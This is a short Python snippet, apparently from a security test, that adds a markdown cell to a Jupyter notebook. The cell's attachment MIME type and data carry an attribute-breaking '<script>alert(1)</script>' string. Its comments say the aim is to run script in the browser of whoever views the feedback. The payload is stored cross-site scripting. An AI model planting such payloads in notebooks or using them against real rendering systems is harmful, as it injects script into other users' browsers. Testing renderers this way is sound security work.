# Attachments of a text whose kind or data end the attribute they stand in.
# Success: an attribute of ours runs in the browser of whoever reads the feedback.
# %% edit
end = '"><script>alert(1)</script>'
own = {"cell_type": "markdown", "id": "own-text", "metadata": {}, "source": "![x](attachment:x.png)"}
own["attachments"] = {"x.png": {"image/png" + end: "AAAA" + end, "text/html": "<script></script>"}}
notebook["cells"].append(own)
